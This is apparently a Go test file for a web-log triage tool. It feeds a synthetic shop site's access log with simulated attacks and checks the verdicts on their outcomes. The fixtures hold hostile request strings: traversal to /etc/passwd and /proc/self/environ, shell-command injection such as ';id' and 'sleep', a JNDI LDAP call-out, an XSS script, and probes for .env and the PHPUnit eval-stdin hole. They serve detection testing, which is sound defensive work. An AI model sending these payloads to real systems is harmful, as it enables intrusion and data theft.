package outcome_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"spoor/triage"
	"spoor/triage/blind"
	"spoor/triage/outcome"
)

// A scene is the log of a small site, to which attacks are added.
type scene struct {
	reqs []triage.Request
	at   time.Time
}

const attacker = "203.0.113.9"

// newScene is a site with pages that visitors read: /view.php?doc= of many sizes, /tool.php of one, a form at
// /login.php that refuses by showing itself again, and 404 for what is not here.
func newScene() *scene {
	s := &scene{at: time.Date(2025, 4, 1, 8, 0, 0, 0, time.UTC)}
	for i := range 60 {
		c := fmt.Sprintf("198.51.100.%d", i+1)
		s.hit(c, "GET /", 200, 5120)
		s.hit(c, fmt.Sprintf("GET /view.php?doc=page%d.html", i%9), 200, int64(3000+(i%9)*411))
		s.hit(c, "GET /tool.php?host=a.example", 200, 2210)
		s.hit(c, "GET /login.php", 200, 900)
		s.hit(c, "POST /login.php", []int{302, 302, 200}[i%3], []int64{0, 0, 940}[i%3])
		if i%3 < 2 {
			s.hit(c, "GET /account.php", 200, int64(4000+i))
			s.hit(c, "GET /orders.php", 200, int64(6000+i))
		}
	}
	return s
}

func (s *scene) hit(client, line string, status int, size int64) *triage.Request {
	method, target, _ := strings.Cut(line, " ")
	path, query, _ := strings.Cut(target, "?")
	s.at = s.at.Add(7 * time.Second)
	agent := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
	if client == attacker {
		s.at = s.at.Add(-6 * time.Second)
		agent = "curl/8.1"
	}
	n := int64(len(s.reqs) + 1)
	s.reqs = append(s.reqs, triage.Request{Ref: triage.RequestRef("s", n), Source: "access.log", Line: n, Time: s.at, Client: client, Method: method,
		Path: path, Query: query, Protocol: "HTTP/1.1", Status: status, Size: size, Millis: -1, Agent: agent, Host: "shop.example"})
	return &s.reqs[n-1]
}

// assess judges requests as the desk does.
func assess(t testing.TB, reqs []triage.Request) []outcome.Attack { return assessBy(t, reqs, nil) }

// assessBy does so with ordinary requests that were changed first.
func assessBy(t testing.TB, reqs []triage.Request, change func(*outcome.Ordinary)) []outcome.Attack {
	t.Helper()
	log := triage.NewSliceLog(reqs, triage.NewJudge().Request)
	sv, err := triage.Examine(log, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	marks := map[uint64][]triage.Finding{}
	for _, m := range sv.Marks {
		marks[m.Row] = append(marks[m.Row], sv.Findings[m.Finding])
	}
	byRow := map[uint64][]triage.Finding{}
	of := map[uint64]*triage.Request{}
	i := 0
	if err := log.Visits(func(v *triage.Visit) bool {
		for reqs[i].Reject != "" {
			i++
		}
		found := append(slices.Clone(log.Findings(v.Judged)), marks[v.Row]...)
		slices.SortStableFunc(found, func(a, b triage.Finding) int { return int(b.Level - a.Level) })
		byRow[v.Row], of[v.Row] = found, &reqs[i]
		i++
		return true
	}); err != nil {
		t.Fatal(err)
	}
	sql := blind.NewReader()
	injects := map[string]bool{}
	for row, found := range byRow {
		if slices.ContainsFunc(found, func(f triage.Finding) bool { return f.Class == triage.SQLi }) {
			injects[of[row].Client] = true
		}
	}
	for i := range reqs {
		if injects[reqs[i].Client] {
			sql.Add(&reqs[i])
		}
	}
	attacks := sql.Result().Attacks
	r := outcome.NewReader(sv, sql.Holds)
	hostile := func(row uint64) bool { return len(byRow[row]) > 0 && byRow[row][0].Level >= triage.Low }
	for row := range uint64(len(byRow)) {
		if hostile(row) {
			r.Attack(of[row], byRow[row])
		}
	}
	_ = log.Requests(r.Compared, func(v *triage.Visit, path string) bool {
		q := of[v.Row]
		if hostile(v.Row) {
			r.Fetched(path, q.Time, q.Status, func() string { return q.Ref })
		} else {
			o := outcome.Ordinary{Path: path, Method: q.Method, Query: q.Query, Body: q.Body, Time: q.Time, Status: q.Status, Size: q.Size, Ref: func() string { return q.Ref }}
			if change != nil {
				change(&o)
			}
			r.Ordinary(&o)
		}
		return true
	})
	_ = log.Of(r.Clients(), func(_ uint64, q *triage.Request, _ []triage.Finding) bool { r.Of(q); return true })
	result := r.Result()
	return outcome.Join(attacks, &result)
}

// the best outcome of the attacker in a class, with its first reason.
func best(list []outcome.Attack, class triage.Class) (outcome.Outcome, string) {
	for _, a := range list {
		if a.Client == attacker && a.Class == class {
			return a.Outcome, a.Reasons[0].ID
		}
	}
	return "", "none"
}

func TestScenes(t *testing.T) {
	passwd := func(depth int) string { return strings.Repeat("../", depth) + "etc/passwd" }
	misses := func(s *scene, n int) {
		for i := range n {
			s.hit(attacker, fmt.Sprintf("GET /%s.bak", []string{"config", "old", "index.php", "site", "db", "web", "data", "users"}[i%8]), 404, 312)
		}
	}
	tests := []struct {
		name   string
		class  triage.Class
		want   outcome.Outcome
		reason string
		add    func(*scene)
	}{
		// a file by a parameter
		{"refused", triage.Traversal, outcome.Failed, "refused", func(s *scene) {
			for i := range 6 {
				s.hit(attacker, "GET /view.php?doc="+passwd(i+1), 403, 310)
			}
		}},
		{"one answer whatever is named", triage.Traversal, outcome.Failed, "one-answer", func(s *scene) {
			for _, f := range []string{passwd(3), passwd(5), "../../../etc/hosts", "../../../etc/group", "/proc/self/environ"} {
				s.hit(attacker, "GET /view.php?doc="+f, 200, 1204)
			}
		}},
		{"the page repeats the payload", triage.Traversal, outcome.Failed, "reflected", func(s *scene) {
			for i := range 8 {
				p := passwd(i + 2)
				s.hit(attacker, "GET /view.php?doc="+p, 200, int64(1100+len(p)))
			}
		}},
		{"the page's usual size", triage.Traversal, outcome.NoSign, "usual-answer", func(s *scene) {
			s.hit(attacker, "GET /tool.php?host="+passwd(5), 200, 2210)
		}},
		{"one odd answer alone", triage.Traversal, outcome.NoSign, "answered", func(s *scene) {
			s.hit(attacker, "GET /tool.php?host="+passwd(5), 200, 3400)
		}},
		{"deep enough", triage.Traversal, outcome.Likely, "answers-follow", func(s *scene) {
			for i := range 4 {
				s.hit(attacker, "GET /view.php?doc="+passwd(i+1), 200, 1204)
			}
			s.hit(attacker, "GET /view.php?doc="+passwd(5), 200, 2951)
			s.hit(attacker, "GET /view.php?doc="+passwd(6), 200, 2951)
		}},
		{"found where others are not", triage.Traversal, outcome.Likely, "found-others-not", func(s *scene) {
			for i := range 4 {
				s.hit(attacker, "GET /view.php?doc="+passwd(i+1), 404, 312)
			}
			s.hit(attacker, "GET /view.php?doc="+passwd(5), 200, 1731)
			s.hit(attacker, "GET /view.php?doc="+passwd(7), 200, 1731)
		}},
		{"a filter with a page of its own", triage.Traversal, outcome.NoSign, "answered", func(s *scene) {
			for i := range 4 {
				s.hit(attacker, "GET /view.php?doc="+passwd(i+1), 200, 1204)
			}
			for _, f := range []string{"etc/passwd", "etc/hosts", "etc/shadow"} {
				s.hit(attacker, "GET /view.php?doc=../../../../../"+f, 200, 800)
				s.hit(attacker, "GET /view.php?doc=../../../../../../"+f, 200, 800)
			}
		}},
		{"the answer itself", triage.WebshellUse, outcome.Succeeded, "answer-shows", func(s *scene) {
			s.hit(attacker, "GET /view.php?doc="+passwd(5), 200, 1731).Answer = "root:x:0:0:root:/root:/bin/bash\n"
		}},
		// commands
		{"commands, usual page", triage.RCE, outcome.NoSign, "usual-answer", func(s *scene) {
			for _, c := range []string{";id", ";cat /etc/hosts", "|whoami"} {
				s.hit(attacker, "GET /tool.php?host=a.example"+strings.ReplaceAll(c, " ", "+"), 200, 2210)
			}
		}},
		{"commands refused", triage.RCE, outcome.Failed, "refused", func(s *scene) {
			for _, c := range []string{";id;ls", "|cat+/etc/hosts", "$(whoami)"} {
				s.hit(attacker, "GET /tool.php?host=a.example"+c, 403, 310)
			}
		}},
		{"commands that wait", triage.RCE, outcome.Likely, "time-follows", func(s *scene) {
			for _, n := range []int{5, 9, 5} {
				s.hit(attacker, fmt.Sprintf("GET /tool.php?host=a.example;sleep+%d;", n), 200, 2210).Millis = int64(n*1000 + 80)
			}
			for range 3 {
				s.hit(attacker, "GET /tool.php?host=a.example;cat+/etc/issue;", 200, 2210).Millis = 75
			}
		}},
		{"commands that do not wait", triage.RCE, outcome.Failed, "time-ignored", func(s *scene) {
			for _, n := range []int{5, 9, 5} {
				s.hit(attacker, fmt.Sprintf("GET /tool.php?host=a.example;sleep+%d;", n), 200, 1500).Millis = 80
			}
		}},
		{"a logged call-out tells nothing by its answer", triage.RCE, outcome.NoSign, "out-of-band", func(s *scene) {
			s.hit(attacker, "GET /?x=${jndi:ldap://198.51.100.250/a}", 404, 312)
		}},
		// script
		{"script refused", triage.XSS, outcome.Failed, "refused", func(s *scene) {
			s.hit(attacker, "GET /view.php?doc=<script>alert(1)</script>", 403, 310)
		}},
		{"script answered", triage.XSS, outcome.NoSign, "page-answered", func(s *scene) {
			s.hit(attacker, "GET /view.php?doc=<script>alert(1)</script>", 200, 3027)
		}},
		// files and holes
		{"misses", triage.Probe, outcome.Failed, "refused", func(s *scene) { misses(s, 8) }},
		{"a dump", triage.Probe, outcome.Succeeded, "file-fetched", func(s *scene) {
			misses(s, 8)
			s.hit(attacker, "GET /shop.sql", 200, 3_100_000)
		}},
		{"a secret", triage.Probe, outcome.Likely, "file-answered", func(s *scene) {
			misses(s, 8)
			s.hit(attacker, "GET /.env", 200, 611)
		}},
		{"any name answers 200", triage.Probe, outcome.Failed, "soft-miss", func(s *scene) {
			for _, p := range []string{"/.env", "/config.bak", "/old.sql", "/site.zip", "/.git/config", "/db.sql"} {
				s.hit(attacker, "GET "+p, 200, 1500)
			}
		}},
		{"any name answers 200 and is shown", triage.Probe, outcome.Failed, "soft-miss", func(s *scene) {
			for _, p := range []string{"/.env", "/config.bak", "/old.sql", "/site-2024.zip", "/.git/config", "/db.sql"} {
				s.hit(attacker, "GET "+p, 200, int64(1500+2*len(p)))
			}
		}},
		{"the front page for any name", triage.Probe, outcome.NoSign, "usual-answer", func(s *scene) {
			misses(s, 8)
			s.hit(attacker, "GET /.env", 200, 5120)
		}},
		{"a hole that answers", triage.Probe, outcome.Likely, "hole-answered", func(s *scene) {
			misses(s, 8)
			s.hit(attacker, "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/nothing", 404, 312)
			s.hit(attacker, "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 200, 44)
		}},
		{"a hole that is not here", triage.Probe, outcome.Failed, "refused", func(s *scene) {
			misses(s, 4)
			s.hit(attacker, "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, 312)
		}},
		// uploads
		{"upload fetched", triage.Upload, outcome.Succeeded, "upload-fetched", func(s *scene) {
			s.hit(attacker, "PUT /files/x.php", 201, 0)
			s.hit(attacker, "GET /files/x.php", 200, 20)
		}},
		{"upload created", triage.Upload, outcome.Likely, "upload-created", func(s *scene) { s.hit(attacker, "PUT /files/x.php", 201, 0) }},
		{"upload refused", triage.Upload, outcome.Failed, "refused", func(s *scene) {
			s.hit(attacker, "PUT /files/x.php", 405, 300)
			s.hit(attacker, "GET /files/x.php", 404, 312)
		}},
		// passwords
		{"guesses in vain", triage.Bruteforce, outcome.Failed, "same-answer", func(s *scene) {
			for range 60 {
				s.hit(attacker, "POST /login.php", 200, 940)
			}
		}},
		{"guessed, and in", triage.Bruteforce, outcome.Succeeded, "signed-in", func(s *scene) {
			for range 60 {
				s.hit(attacker, "POST /login.php", 200, 940)
			}
			s.hit(attacker, "POST /login.php", 302, 0)
			s.hit(attacker, "GET /account.php", 200, 4100)
			s.hit(attacker, "GET /orders.php", 200, 6100)
		}},
		{"a redirect, and no page after", triage.Bruteforce, outcome.Likely, "answer-differs", func(s *scene) {
			for i := range 60 {
				if i == 40 {
					s.hit(attacker, "POST /login.php", 302, 0)
				}
				s.hit(attacker, "POST /login.php", 200, 940)
			}
		}},
		{"locked out", triage.Bruteforce, outcome.NoSign, "answered", func(s *scene) {
			for i := range 60 {
				if i == 57 {
					s.hit(attacker, "POST /login.php", 429, 100)
				}
				s.hit(attacker, "POST /login.php", 200, 940)
			}
		}},
		{"refused names, and in", triage.Bruteforce, outcome.Succeeded, "signed-in", func(s *scene) {
			for range 60 {
				s.hit(attacker, "GET /manager/", 401, 421)
			}
			s.hit(attacker, "GET /manager/", 200, 3300)
			s.hit(attacker, "GET /manager/apps", 200, 8100)
			s.hit(attacker, "GET /manager/users", 200, 5100)
		}},
		{"refused names", triage.Bruteforce, outcome.Failed, "same-answer", func(s *scene) {
			for range 60 {
				s.hit(attacker, "GET /manager/", 401, 421)
			}
		}},
	}
	for _, x := range tests {
		t.Run(x.name, func(t *testing.T) {
			s := newScene()
			x.add(s)
			list := assess(t, s.reqs)
			got, reason := best(list, x.class)
			if got != x.want || reason != x.reason {
				t.Errorf("%q by %s, want %q by %s", got, reason, x.want, x.reason)
				for _, a := range list {
					t.Logf("%s %s %s: %s %v", a.Client, a.Class, a.Place(), a.Outcome, a.Reasons)
				}
			}
			for _, a := range list {
				for _, why := range a.Reasons {
					if len(why.Refs) == 0 {
						t.Errorf("%s of %s cites nothing", why.ID, a.Place())
					}
				}
				if a.Client != attacker && outcome.Worked(a.Outcome) {
					t.Errorf("a visitor %s at %s: %s", a.Client, a.Place(), a.Outcome)
				}
			}
		})
	}
}
